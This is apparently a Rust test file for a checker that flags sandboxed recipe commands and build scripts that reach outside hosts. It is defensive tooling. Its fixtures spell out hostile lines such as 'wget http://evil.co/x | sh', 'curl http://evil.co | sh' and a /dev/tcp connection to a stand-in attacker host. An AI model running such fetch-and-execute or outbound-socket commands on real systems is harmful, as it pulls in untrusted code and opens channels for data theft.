use super::*;
use crate::recipe::read;

/// A recipe with these pieces of TOML instead of its own.
fn recipe(trigger: &str, name: &str, text: &str) -> Recipe {
    let document = format!(
        "version = 1\ntrigger = {trigger}\ncontrol = [\"true\"]\n[target]\necosystem = \"npm\"\n\
         name = \"a\"\nversion = \"1.2.3.4\"\n[oracle]\nkind = \"canary\"\n[[files]]\n\
         name = \"{name}\"\ntext = '''\n{text}'''\n"
    );
    read(&document).unwrap_or_else(|faults| panic!("{document}: {faults:?}"))
}

/// Expects the places, and that each is told with a remedy.
fn check(trigger: &str, name: &str, text: &str, expected: &[&str]) {
    let found = outside(&recipe(trigger, name, text));
    let places: Vec<&str> = found.iter().map(|fault| fault.place.as_str()).collect();
    assert_eq!(places, expected, "{trigger} {name} {text}: {found:?}");
    assert!(found.iter().all(|fault| fault.message.contains("; ")), "{found:?}");
}

#[test]
fn commands_that_reach_outside_are_named() {
    let text = "print(1)";
    for (trigger, expected) in [
        (r#"["python3", "/recipe/a.py"]"#, &[][..]),
        (r#"["curl", "-s", "http://evil.co/"]"#, &["trigger", "trigger"]),
        (r#"["curl", "-s", "http://127.0.0.1:8080/"]"#, &[]),
        (r#"["python3", "/recipe/a.py", "https://evil.co/x"]"#, &["trigger"]),
        (r#"["python3", "/recipe/a.py", "https://host.example/x"]"#, &[]),
        (r#"["python3", "/recipe/a.py", "evil.co:443"]"#, &["trigger"]),
        (r#"["python3", "/recipe/a.py", "10.1.2.3"]"#, &["trigger"]),
        (r#"["python3", "/recipe/a.py", "1.2.3.4"]"#, &[]),
        (r#"["python3", "/recipe/a.py", "http://[2001:db8::1]/"]"#, &[]),
        (r#"["sh", "-c", "wget -q http://evil.co/x | sh"]"#, &["trigger", "trigger"]),
        (
            r#"["python3", "-c", "import socket; socket.create_connection(('evil.com', 80))"]"#,
            &["trigger"],
        ),
        (r#"["node", "-e", "fetch('http://evil.co/')"]"#, &["trigger"]),
        (r#"["node", "-e", "new URL('http://evil.co/')"]"#, &[]),
        (r#"["pip", "install", "x"]"#, &["trigger"]),
        (r#"["git", "clone", "https://evil.co/a"]"#, &["trigger", "trigger"]),
        (r#"["cargo", "run"]"#, &["trigger"]),
        (r#"["cargo", "run", "--offline"]"#, &[]),
    ] {
        check(trigger, "a.py", text, expected);
    }
}

#[test]
fn texts_that_run_are_read_and_others_are_not() {
    let python = r#"["python3", "/recipe/a"]"#;
    let file = &["files[0].text"][..];
    for (name, text, expected) in [
        ("build.sh", "set -e\nif true; then apt-get install -y zlib; fi\n", file),
        ("build.sh", "# curl http://evil.co\nmake\n", &[][..]),
        ("build.sh", "URL=http://127.0.0.1:80\ncurl \"$URL/a\"\n", &[]),
        ("build.sh", "exec 3<>/dev/tcp/evil.co/80\necho http://evil.co >&3\n", file),
        ("build.sh", "cargo build\n", file),
        ("build.sh", "export CARGO_NET_OFFLINE=true\ncargo build\n", &[]),
        ("a", "import urllib.request\nurllib.request.urlopen('http://evil.co')\n", file),
        ("a", "import urllib.parse\nurllib.parse.urlparse('http://host.example')\n", &[]),
        ("a.py", "import subprocess\nsubprocess.run(['curl', '-s', url])\n", file),
        ("a.py", "import os\nos.system('cd /x; wget ' + url)\n", file),
        ("a.py", "import subprocess\nsubprocess.run(['pip', 'install', 'x'])\n", file),
        ("a.py", "import subprocess\nsubprocess.run(['/build/x', 'host'])\n", &[]),
        ("a.py", "# see https://evil.co/\nimport socket\n", &[]),
        ("a.py", "import socket\nsocket.create_server(('127.0.0.1', 80))\n", &[]),
        ("a.py", "import socket\ns.connect(('evil.com', 80))\n", file),
        ("a.py", "import socket\ns.connect(('93.184.216.34', 80))\n", file),
        ("a.py", "XML = '<a xmlns=\"http://www.w3.org/1999/xhtml\"/>'\n", &[]),
        ("a.js", "const http = require('http') // https://evil.co\n", &[]),
        ("a.js", "require('http').get('http://evil.co')\n", file),
        ("a.c", "int s = socket(AF_INET, 1, 0); inet_addr(\"8.8.8.8\");\n", file),
        ("a.rs", "TcpStream::connect(\"127.0.0.1:80\"); a::b::c();\n", &[]),
        ("input.xml", "<!DOCTYPE a SYSTEM \"http://evil.co/x.dtd\">\n", &[]),
        ("attack.txt", "curl http://evil.co | sh\n", &[]),
        ("run", "#!/bin/sh\ncurl http://evil.co\n", file),
    ] {
        let found = outside(&recipe(python, name, text));
        let mut places: Vec<&str> = found.iter().map(|fault| fault.place.as_str()).collect();
        places.dedup();
        assert_eq!(places, expected, "{name} {text}: {found:?}");
    }
}

#[test]
fn the_recipes_of_this_repository_stay_inside() {
    for (path, text) in crate::recipe::tests::recipes() {
        assert_eq!(outside(&read(&text).unwrap()), Vec::new(), "{path:?}");
    }
}
